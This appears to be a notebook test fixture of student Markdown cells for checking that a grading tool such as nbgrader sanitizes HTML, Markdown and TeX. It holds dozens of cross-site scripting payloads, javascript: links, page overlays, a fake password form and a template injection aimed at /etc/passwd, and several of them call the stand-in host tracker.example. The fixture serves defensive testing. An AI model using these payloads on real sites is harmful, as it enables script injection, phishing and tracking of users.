# Text of students that acts on whoever opens it, where it is taken for Markdown, HTML or TeX: one percent cell each.
#
# What runs sets the title of the page to "ran"; what asks for anything asks tracker.example.

# %% script [markdown]
# <script>document.title = 'ran'</script>

# %% script in odd letters [markdown]
# <ScRiPt/x>document.title = 'ran'</sCrIpT >

# %% script from elsewhere [markdown]
# <script src="https://tracker.example/a.js"></script>

# %% script after our own closing tags [markdown]
# </pre></div></div></div></div></body><script>document.title = 'ran'</script>

# %% script in what looks inert already [markdown]
# <pre class="tex2jax_ignore" style="white-space: pre-wrap"></pre><script>document.title = 'ran'</script>

# %% script after a blank line in a block [markdown]
# <pre class="tex2jax_ignore" style="white-space: pre-wrap">
#
# </pre>
#
# <script>document.title = 'ran'</script>

# %% script in a comment [markdown]
# <!--> <script>document.title = 'ran'</script> -->

# %% script in a table [markdown]
# | a | b |
# | --- | --- |
# | <script>document.title = 'ran'</script> | 1 |

# %% handler of an image [markdown]
# <img src=x onerror="document.title = 'ran'">

# %% handler without quotes or spaces [markdown]
# <img/src=x/onerror=document.title='ran'>

# %% handler of a marquee, a video and a style [markdown]
# <marquee onstart="document.title = 'ran'">m</marquee><video><source onerror="document.title = 'ran'"></video>
#
# <style onload="document.title = 'ran'"></style>

# %% handler that takes the focus [markdown]
# <input autofocus onfocus="document.title = 'ran'">

# %% handler that opens by itself [markdown]
# <details open ontoggle="document.title = 'ran'">d</details>

# %% handler of an animation [markdown]
# <style>@keyframes x{}</style><b style="animation-name: x" onanimationstart="document.title = 'ran'">a</b>

# %% svg with a handler [markdown]
# <svg onload="document.title = 'ran'"></svg>

# %% svg with a script [markdown]
# <svg><script>document.title = 'ran'</script></svg>

# %% svg with a page in it [markdown]
# <svg><foreignObject><iframe srcdoc="<script>top.document.title = 'ran'</script>"></iframe></foreignObject></svg>

# %% svg that animates a link [markdown]
# <svg><a><animate attributeName=href values="javascript:document.title='ran'" /><text x=20 y=20>open</text></a></svg>

# %% frame with a page in it [markdown]
# <iframe srcdoc="<script>parent.document.title = 'ran'</script>"></iframe>

# %% frame with a script [markdown]
# <iframe src="javascript:parent.document.title = 'ran'"></iframe>

# %% frame from elsewhere [markdown]
# <iframe src="https://tracker.example/" style="position: fixed; inset: 0; width: 100%; height: 100%"></iframe>

# %% object [markdown]
# <object data="https://tracker.example/o.svg" type="image/svg+xml"></object>

# %% embed [markdown]
# <embed src="https://tracker.example/e.svg">

# %% link with a script [markdown]
# [open](javascript:document.title='ran')

# %% link with a script in entities [markdown]
# [open](&#106;avascript&colon;document.title='ran')

# %% link with a script and a line break [markdown]
# <a href="java&#10;script:document.title='ran'">open</a>

# %% link with a script in HTML [markdown]
# <a href=" javascript:document.title='ran'">open</a>

# %% link by reference [markdown]
# [open][1]
#
# [1]: javascript:document.title='ran' "title"

# %% link by itself [markdown]
# <javascript:document.title='ran'> and <https://tracker.example/> and www.tracker.example

# %% link to a page of data [markdown]
# [open](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuZG9jdW1lbnQudGl0bGU9J3Jhbic8L3NjcmlwdD4=)

# %% link into formgrader [markdown]
# [open](/formgrader/manage_students/%22;document.title='ran'%2F%2F)

# %% image from elsewhere [markdown]
# ![look](https://tracker.example/i.png)

# %% image by reference [markdown]
# ![look][1]
#
# [1]: //tracker.example/i.png

# %% image of an attachment [markdown]
# ![look](attachment:x.svg)

# %% image of many sizes [markdown]
# <picture><source srcset="https://tracker.example/s.png"><img srcset="https://tracker.example/s.png 1x"></picture>

# %% style that covers the page [markdown]
# <div style="position: fixed; inset: 0; z-index: 99999; background: red">all correct</div>

# %% style of the whole page [markdown]
# <style>body * { display: none } body::before { content: 'all correct' }
# body { background: url(https://tracker.example/b) }</style>

# %% style that is fetched [markdown]
# <link rel=stylesheet href="https://tracker.example/s.css"><style>@import '//tracker.example/i.css';</style>

# %% classes of the page's own [markdown]
# <div class="navbar navbar-fixed-top modal-backdrop in">all correct</div><input class="score" id="test-double">

# %% names that scripts look up [markdown]
# <form name=body id=submission_id></form><a id=base_url href="https://tracker.example/"></a><img name=querySelector>

# %% refresh [markdown]
# <meta http-equiv=refresh content="0; url=https://tracker.example/">

# %% base [markdown]
# <base href="https://tracker.example/">

# %% form [markdown]
# <form action="https://tracker.example/"><input name=password>
# <button style="position: fixed; inset: 0">Next</button></form>

# %% form that is sent by itself [markdown]
# <form id=f action="https://tracker.example/"></form><img src=x onerror="f.submit()">

# %% markup that changes when read again [markdown]
# <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='ran'&gt;">

# %% markup behind noscript [markdown]
# <noscript><p title="</noscript><img src=x onerror=document.title='ran'>"></noscript>

# %% markup in a template [markdown]
# <template><script>document.title = 'ran'</script></template>
# <div><template shadowrootmode=open><img src=x onerror="document.title = 'ran'"></template></div>

# %% markup in entities [markdown]
# &lt;script&gt;document.title = 'ran'&lt;/script&gt; &#60;img src=x onerror="document.title = 'ran'"&#62;

# %% markup in a formula [markdown]
# $<img src=x onerror="document.title = 'ran'">$ and $$<script>document.title = 'ran'</script>$$

# %% markup in a formula's environment [markdown]
# \begin{equation}<img src=x onerror="document.title = 'ran'">\end{equation}

# %% markup in a block of code [markdown]
# ```"><img src=x onerror="document.title = 'ran'">
# x
# ```

# %% diagram [markdown]
# ```mermaid
# graph TD
# A["<img src=x onerror=document.title='ran'>"]
# click A href "javascript:document.title='ran'"
# ```

# %% template of the page [markdown]
# {{ resources.nbgrader.db_url }} {% include '/etc/passwd' %}

# %% formula that is a link [markdown]
# $\href{javascript:document.title='ran'}{x}$ and $\href{https://tracker.example/}{y}$

# %% formula that asks for more of TeX [markdown]
# $\require{html}\require{action}\toggle{a}{b}\endtoggle\mathtip{a}{b}$

# %% formula with a style [markdown]
# $\style{position: fixed; top: 0; left: 0; font-size: 900px}{x} \class{navbar-fixed-top}{y} \cssId{submission_id}{z}$

# %% formula that covers the page [markdown]
# $$\rule[-500em]{2000em}{2000em} \bbox[red, 900px]{x} \hskip -900em \unicode[serif][900pt]{x2588}$$

# %% formula without an end [markdown]
# $\newcommand{\loop}{\loop\loop}\loop \def\x{\x\x}\x$

# %% formula that changes those of the lab [markdown]
# \(\renewcommand{\alpha}{0}\def\frac#1#2{1}\) \[\let\sum\prod\]

# %% MathML [markdown]
# <math href="javascript:document.title='ran'"><maction actiontype="statusline#https://tracker.example/">
# x</maction></math>

# %% script for MathJax [markdown]
# <script type="math/tex">\href{javascript:document.title='ran'}{x}</script>
# <script type="text/x-mathjax-config">document.title = 'ran'</script>

# %% tags without an end [markdown]
# <table><td><textarea><title><xmp><plaintext>
